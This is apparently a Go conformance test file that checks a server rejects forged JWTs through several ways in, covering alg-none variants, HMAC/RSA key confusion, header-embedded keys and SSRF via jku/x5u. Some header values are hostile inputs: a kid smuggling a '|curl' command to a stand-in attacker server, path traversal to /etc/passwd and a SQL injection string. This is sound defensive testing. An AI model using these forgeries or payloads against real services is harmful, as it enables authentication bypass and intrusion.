package attack

import (
	"crypto/sha512"
	"crypto/x509"
	"strings"
	"testing"

	"github.com/go-jose/go-jose/v4"

	"sallyport/test/conformance/target"
)

// forgery is a token that must not be accepted.
type forgery struct {
	name, tries string
	make        func(f *forger) string
	noHeader    bool // no header can carry it, or a header would carry it as a good one
}

// tampered are tokens that take no key of the issuer to make.
var tampered = []forgery{
	{name: "algNone", tries: "alg none, without a signature", make: func(f *forger) string { return forge(f.head("alg", "none"), f.claims(), unsigned) }},
	{name: "algNoneTitle", tries: "alg None", make: func(f *forger) string { return forge(f.head("alg", "None"), f.claims(), unsigned) }},
	{name: "algNoneUpper", tries: "alg NONE", make: func(f *forger) string { return forge(f.head("alg", "NONE"), f.claims(), unsigned) }},
	{name: "algNoneMixed", tries: "alg nOnE", make: func(f *forger) string { return forge(f.head("alg", "nOnE"), f.claims(), unsigned) }},
	{name: "algNoneSpace", tries: "alg none with a blank behind it", make: func(f *forger) string { return forge(f.head("alg", "none "), f.claims(), unsigned) }},
	{name: "algNoneSigned", tries: "alg none with the good token's signature", make: func(f *forger) string {
		return forge(f.head("alg", "none"), f.claims(), func(string) []byte { return []byte(part(f.good, 2)) })
	}},
	{name: "algNoneNoDot", tries: "alg none, with no third part at all", make: func(f *forger) string {
		return strings.TrimSuffix(forge(f.head("alg", "none"), f.claims(), unsigned), ".")
	}},
	{name: "algEmpty", tries: "alg empty", make: func(f *forger) string { return forge(f.head("alg", ""), f.claims(), unsigned) }},
	{name: "algAbsent", tries: "no alg", make: func(f *forger) string { return forge(f.head("alg", absent), f.claims(), unsigned) }},
	{name: "algNull", tries: "alg null", make: func(f *forger) string { return forge(f.head("alg", nil), f.claims(), unsigned) }},
	{name: "algNumber", tries: "alg 0", make: func(f *forger) string { return forge(f.head("alg", 0), f.claims(), unsigned) }},
	{name: "algList", tries: "alg a list of none and RS256", make: func(f *forger) string {
		return forge(f.head("alg", []string{"none", "RS256"}), f.claims(), unsigned)
	}},
	{name: "algLower", tries: "alg rs256, with an own key", make: func(f *forger) string { return f.by("alg", "rs256") }},

	{name: "hmacPEM", tries: "HS256, the secret being the public key as PEM", make: func(f *forger) string {
		return forge(f.head("alg", "HS256"), f.claims(), hs256(f.pem("PUBLIC KEY", must(x509.MarshalPKIXPublicKey(f.key())))))
	}},
	{name: "hmacPEMTrimmed", tries: "the same without the last newline", make: func(f *forger) string {
		return forge(f.head("alg", "HS256"), f.claims(), hs256(strings.TrimSpace(f.pem("PUBLIC KEY", must(x509.MarshalPKIXPublicKey(f.key()))))))
	}},
	{name: "hmacPKCS1", tries: "HS256, the public key as PKCS #1 PEM", make: func(f *forger) string {
		return forge(f.head("alg", "HS256"), f.claims(), hs256(f.pem("RSA PUBLIC KEY", x509.MarshalPKCS1PublicKey(f.key()))))
	}},
	{name: "hmacDER", tries: "HS256, the public key as DER", make: func(f *forger) string {
		return forge(f.head("alg", "HS256"), f.claims(), hs256(string(must(x509.MarshalPKIXPublicKey(f.key())))))
	}},
	{name: "hmacModulus", tries: "HS256, the modulus", make: func(f *forger) string {
		return forge(f.head("alg", "HS256"), f.claims(), hs256(string(f.key().N.Bytes())))
	}},
	{name: "hmacModulusText", tries: "HS256, the modulus as the key set spells it", make: func(f *forger) string {
		return forge(f.head("alg", "HS256"), f.claims(), hs256(base64url(string(f.key().N.Bytes()))))
	}},
	{name: "hmacJWK", tries: "HS256, the key as the key set has it", make: func(f *forger) string {
		return forge(f.head("alg", "HS256"), f.claims(), hs256(encode(f.public)))
	}},
	{name: "hmac512", tries: "HS512, the public key as PEM", make: func(f *forger) string {
		return forge(f.head("alg", "HS512"), f.claims(), hs(sha512.New, []byte(f.pem("PUBLIC KEY", must(x509.MarshalPKIXPublicKey(f.key()))))))
	}},
	{name: "hmacEmpty", tries: "HS256, an empty secret", make: func(f *forger) string { return forge(f.head("alg", "HS256"), f.claims(), hs256("")) }},
	{name: "hmacKid", tries: "HS256, an empty secret, kid /dev/null", make: func(f *forger) string {
		return forge(f.head("alg", "HS256", "kid", "../../../../dev/null"), f.claims(), hs256(""))
	}},

	{name: "rsaAsEC", tries: "ES256 for the issuer's RSA key, with an own key", make: func(f *forger) string { return forge(f.head("alg", "ES256"), f.claims(), es(f.ec)) }},
	{name: "ecZeros", tries: "ES256, r and s being 0", make: func(f *forger) string { return forge(f.head("alg", "ES256"), f.claims(), zeros(64)) }},
	{name: "ecEmpty", tries: "ES256, an empty signature", make: func(f *forger) string { return forge(f.head("alg", "ES256"), f.claims(), unsigned) }},
	{name: "rsaAsEd", tries: "EdDSA with an own key", make: func(f *forger) string { return forge(f.head("alg", "EdDSA"), f.claims(), edDSA(f.ed)) }},
	{name: "edZeros", tries: "EdDSA, a signature of zeros", make: func(f *forger) string { return forge(f.head("alg", "EdDSA"), f.claims(), zeros(64)) }},
	{name: "rs512", tries: "RS512 with an own key", make: func(f *forger) string { return forge(f.head("alg", "RS512"), f.claims(), rs512(f.rsa)) }},
	{name: "ps256", tries: "PS256 with an own key", make: func(f *forger) string { return forge(f.head("alg", "PS256"), f.claims(), ps256(f.rsa)) }},

	{name: "ownKey", tries: "RS256 with an own key, under the issuer's kid", make: func(f *forger) string { return f.by() }},
	{name: "ownKid", tries: "RS256 with an own key, under an own kid", make: func(f *forger) string { return f.by("kid", "mine") }},
	{name: "kidAbsent", tries: "no kid", make: func(f *forger) string { return f.by("kid", absent) }},
	{name: "kidEmpty", tries: "kid empty", make: func(f *forger) string { return f.by("kid", "") }},
	{name: "kidPath", tries: "kid a path", make: func(f *forger) string { return f.by("kid", "../../../../../../etc/passwd") }},
	{name: "kidSQL", tries: "kid a piece of SQL", make: func(f *forger) string { return f.by("kid", "x' UNION SELECT 'key' --") }},
	{name: "kidCommand", tries: "kid a command", make: func(f *forger) string { return f.by("kid", "|curl "+evilIssuer().url) }},
	{name: "kidNewline", tries: "kid with newlines", make: func(f *forger) string { return f.by("kid", "a\r\nb\nc") }},
	{name: "kidNUL", tries: "the issuer's kid and a NUL", make: func(f *forger) string { return f.by("kid", f.public.KeyID+"\x00") }},
	{name: "kidURL", tries: "kid an address of own keys", make: func(f *forger) string { return f.by("kid", evilIssuer().url+"/keys") }},
	{name: "kidHuge", tries: "kid of 4 KB", make: func(f *forger) string { return f.by("kid", strings.Repeat("k", 4<<10)) }},
	{name: "kidNumber", tries: "kid a number", make: func(f *forger) string { return f.by("kid", 1) }},
	{name: "kidObject", tries: "kid an object", make: func(f *forger) string { return f.by("kid", map[string]any{"$ne": ""}) }},

	{name: "jku", tries: "jku at an own server", make: func(f *forger) string { return f.by("jku", evilIssuer().url+"/keys", "kid", "rsa") }},
	{name: "jkuFile", tries: "jku a file", make: func(f *forger) string { return f.by("jku", "file:///dev/null") }},
	{name: "x5u", tries: "x5u at an own server", make: func(f *forger) string { return f.by("x5u", evilIssuer().url+"/cert.pem") }},
	{name: "x5c", tries: "x5c an own certificate", make: func(f *forger) string { return f.by("x5c", []string{f.certificate()}) }},
	{name: "x5cNoKid", tries: "x5c an own certificate, no kid", make: func(f *forger) string { return f.by("x5c", []string{f.certificate()}, "kid", absent) }},
	{name: "jwk", tries: "an own key within the header", make: func(f *forger) string {
		return f.by("jwk", jose.JSONWebKey{Key: f.rsa.Public(), KeyID: f.public.KeyID})
	}},
	{name: "jwkNoKid", tries: "an own key within the header, no kid", make: func(f *forger) string {
		return f.by("jwk", jose.JSONWebKey{Key: f.rsa.Public()}, "kid", absent)
	}},
	{name: "jwkSecret", tries: "HS256 by a secret within the header", make: func(f *forger) string {
		return forge(f.head("alg", "HS256", "jwk", jose.JSONWebKey{Key: []byte("k")}), f.claims(), hs256("k"))
	}},

	{name: "payload", tries: "the good token, the user changed", make: func(f *forger) string {
		p := strings.Split(f.good, ".")
		return p[0] + "." + base64url(f.claims()) + "." + p[2]
	}},
	{name: "header", tries: "the good token, a member added to its header", make: func(f *forger) string {
		p := strings.Split(f.good, ".")
		return base64url(f.head("x", 1)) + "." + p[1] + "." + p[2]
	}},
	{name: "flipped", tries: "the good token, one bit of its signature changed", make: func(f *forger) string {
		s := []byte(part(f.good, 2))
		s[len(s)/2] ^= 1
		return f.good[:strings.LastIndex(f.good, ".")+1] + base64url(string(s))
	}},
	{name: "truncated", tries: "the good token without its last bytes", make: func(f *forger) string { return f.good[:len(f.good)-8] }},
	{name: "emptySignature", tries: "the good token with an empty signature", make: func(f *forger) string { return f.good[:strings.LastIndex(f.good, ".")+1] }},
	{name: "zeroSignature", tries: "the good token, its signature all zeros", make: func(f *forger) string {
		return f.good[:strings.LastIndex(f.good, ".")+1] + base64url(string(make([]byte, 256)))
	}},
	{name: "extended", tries: "the good token with a byte more", make: func(f *forger) string { return f.good + "AA" }},
	{name: "fourParts", tries: "the good token with a fourth part", make: func(f *forger) string { return f.good + ".e30" }},
	{name: "swapped", tries: "the good token's parts in another order", make: func(f *forger) string {
		p := strings.Split(f.good, ".")
		return p[1] + "." + p[0] + "." + p[2]
	}},

	{name: "duplicateAlg", tries: "alg RS256 and alg none", make: func(f *forger) string {
		return forge(`{"alg":"RS256","alg":"none","kid":`+encode(f.public.KeyID)+`}`, f.claims(), unsigned)
	}},
	{name: "duplicateAlgReversed", tries: "alg none and alg RS256", make: func(f *forger) string {
		return forge(`{"alg":"none","alg":"RS256","kid":`+encode(f.public.KeyID)+`}`, f.claims(), unsigned)
	}},
	{name: "duplicateKid", tries: "the issuer's kid and an own one", make: func(f *forger) string {
		return forge(`{"alg":"RS256","kid":`+encode(f.public.KeyID)+`,"kid":"mine"}`, f.claims(), rs256(f.rsa))
	}},
	{name: "crit", tries: "crit names what nobody knows", make: func(f *forger) string { return f.by("crit", []string{"x"}, "x", 1) }},
	{name: "notEncoded", tries: "b64 false: the payload as it is", make: func(f *forger) string {
		return f.by("crit", []string{"b64"}, "b64", false)
	}},

	{name: "nested", tries: "a token within a token", make: func(f *forger) string { return forge(f.head("cty", "JWT"), f.good, rs256(f.rsa)) }},
	{name: "encryptedClaims", tries: "a JWE of claims to the issuer's public key", make: func(f *forger) string {
		return f.encrypted(jose.RSA_OAEP_256, f.key(), f.claims())
	}},
	{name: "encryptedNone", tries: "a JWE of an alg none token", make: func(f *forger) string {
		return f.encrypted(jose.RSA_OAEP_256, f.key(), forge(f.head("alg", "none"), f.claims(), unsigned))
	}},
	{name: "encryptedDirect", tries: "a JWE by a guessed secret", make: func(f *forger) string { return f.encrypted(jose.DIRECT, make([]byte, 16), f.claims()) }},
	{name: "flattened", tries: "the good token as JSON, flattened", make: func(f *forger) string {
		p := strings.Split(f.good, ".")
		return encode(map[string]any{"protected": p[0], "payload": p[1], "signature": p[2]})
	}, noHeader: true},
	{name: "general", tries: "the good token as JSON, with a second signature", make: func(f *forger) string {
		p := strings.Split(f.good, ".")
		s := map[string]any{"protected": p[0], "signature": p[2]}
		return encode(map[string]any{"payload": base64url(f.claims()), "signatures": []any{s, s}})
	}, noHeader: true},

	{name: "spaces", tries: "a blank within the good token", make: func(f *forger) string { return strings.Replace(f.good, ".", " .", 1) }},
	{name: "newlines", tries: "a newline within the good token", make: func(f *forger) string { return strings.Replace(f.good, ".", "\n.", 1) }, noHeader: true},
	{name: "padded", tries: "the good token's signature with = behind it", make: func(f *forger) string { return f.good + "==" }},
	{name: "paddedPayload", tries: "a payload with = behind it", make: func(f *forger) string {
		p := strings.Split(f.by(), ".")
		return p[0] + "." + p[1] + "=." + p[2]
	}},
	{name: "notUTF8", tries: "bytes that are no text", make: func(*forger) string { return "\xff\xfe.\xff.\xff" }},
	{name: "empty", tries: "nothing", make: func(*forger) string { return "" }},
	{name: "dots", tries: "dots only", make: func(*forger) string { return ".." }},
	{name: "manyDots", tries: "8,000 dots", make: func(*forger) string { return strings.Repeat(".", 8000) }},
	{name: "huge8K", tries: "an own token of over 8 KB", make: func(f *forger) string { return hugeToken(f, 7<<10) }},
	{name: "huge60K", tries: "an own token of over 60 KB", make: func(f *forger) string { return hugeToken(f, 45<<10) }},
	{name: "huge2M", tries: "an own token of 2 MB", make: func(f *forger) string { return hugeToken(f, 3<<19) }},
}

func hugeToken(f *forger, size int) string {
	return forge(f.head(), encode(with(f.wanted, "pad", strings.Repeat("x", size))), rs256(f.rsa))
}

// way is a way in by which a token can come.
type way struct {
	name string
	shut []string // the answers that refuse
	try  func(token string) string
}

// ways returns all of them; live is an open connection of the token's user.
func (v *victim) ways(t *testing.T, live *socket) []way {
	t.Helper()
	return []way{
		{"bearer", []string{"401", "403", "400", "431", "closed"}, func(token string) string { return v.shake(t, bearer(token)).verdict() }},
		{"query", []string{"401", "403", "400", "414", "431", "closed"}, func(token string) string { return v.shake(t, inQuery(token)).verdict() }},
		{"tickets", []string{"401", "403", "400", "431"}, func(token string) string { return v.askTicket(t, v.authorized(token)).verdict() }},
		{"refresh", []string{`{"type":"error","data":{"code":"token_`, `{"type":"error","data":{"code":"refresh_`}, func(token string) string {
			return live.ask(encode(map[string]string{"action": "refresh", "token": token}))
		}},
	}
}

// TestForgedTokens tries tokens that take no key of the issuer to make, by each
// way in.
func TestForgedTokens(t *testing.T) {
	v := open.get(t)
	f := newForger(t, v)
	asked := evilIssuer().asked.Load()
	tryForgeries(t, v, f, tampered)
	got := evilIssuer().asked.Load() - asked
	attempt{"ssrf", "one of these has made the system ask the forger's server"}.verdict(t, encode(got)+" requests", got == 0)
}

// tryForgeries tries each token by each way in, after a good one.
func tryForgeries(t *testing.T, v *victim, f *forger, forgeries []forgery) {
	t.Helper()
	live := v.enter(t, f.good)
	live.patient(2 * patience)
	for _, way := range v.ways(t, live) {
		control(t, "a good token by "+way.name, way.try(f.good), "101", "201", `{"type":"refreshed"`)
		for _, forged := range forgeries {
			token := forged.make(f)
			if forged.noHeader && way.name != "refresh" && way.name != "query" {
				continue
			}
			if way.name == "refresh" && len(token) > 128<<10 {
				token = token[:100<<10] // a longer message ends the connection
			}
			attempt{way.name + "/" + forged.name, forged.tries}.ends(t, way.try(token), way.shut...)
		}
	}
	control(t, "the connection, after all that", live.alive(), "alive")
}

// TestMintedTokens tries tokens that the issuer has signed, but which are not,
// or no longer, for this.
func TestMintedTokens(t *testing.T) {
	v := open.get(t)
	f := newForger(t, v)
	tryForgeries(t, v, f, []forgery{
		{name: "otherAudience", tries: "genuine, for another audience", make: func(*forger) string {
			return v.tokenFor(t, target.TokenRequest{User: "mallory", Audience: "others"})
		}},
		{name: "audiencePrefix", tries: "genuine, for an audience that begins the same", make: func(*forger) string {
			return v.tokenFor(t, target.TokenRequest{User: "mallory", Audience: "sallyport.evil"})
		}},
		{name: "audienceCase", tries: "genuine, for the audience in capitals", make: func(*forger) string {
			return v.tokenFor(t, target.TokenRequest{User: "mallory", Audience: "SALLYPORT"})
		}},
		{name: "expired", tries: "genuine, an hour too late", make: func(*forger) string {
			return v.tokenFor(t, target.TokenRequest{User: "mallory", ExpiresIn: -3600})
		}},
		{name: "justExpired", tries: "genuine, 32 s too late", make: func(*forger) string {
			return v.tokenFor(t, target.TokenRequest{User: "mallory", ExpiresIn: -32})
		}},
	})
}

// TestTokenInQueryIsOff tries good tokens in the query of a stack that has it off,
// which is the default.
func TestTokenInQueryIsOff(t *testing.T) {
	v := plain.get(t)
	token := v.token(t, "mallory")
	control(t, "the same token as a bearer", v.shake(t, bearer(token)).verdict(), "101")
	off := []struct{ name, tries, query string }{
		{"token", "a good token in the query", "?token=" + token},
		{"twice", "the same twice", "?token=" + token + "&token=" + token},
		{"capital", "the parameter in capitals", "?TOKEN=" + token},
		{"accessToken", "access_token", "?access_token=" + token},
		{"authorization", "Authorization", "?Authorization=Bearer%20" + token},
		{"bearer", "bearer", "?bearer=" + token},
		{"header", "the header's name", "?Sec-WebSocket-Protocol=sallyport.v1,bearer." + token},
	}
	for _, o := range off {
		attempt{"queryOff/" + o.name, o.tries}.ends(t, v.shake(t, knock{query: o.query}).verdict(), "401")
		both := knock{query: o.query, headers: []string{"Sec-WebSocket-Protocol: sallyport.v1"}}
		attempt{"queryOff/" + o.name + "AndProtocol", o.tries + ", beside sallyport.v1"}.ends(t, v.shake(t, both).verdict(), "401")
	}
	for _, header := range []string{"Authorization: Bearer " + token, "Cookie: token=" + token, "X-Amz-Security-Token: " + token} {
		name, _, _ := strings.Cut(header, ":")
		k := knock{headers: []string{header, "Sec-WebSocket-Protocol: sallyport.v1"}}
		attempt{"otherHeader/" + name, "a good token in the header " + name}.ends(t, v.shake(t, k).verdict(), "401")
	}
}
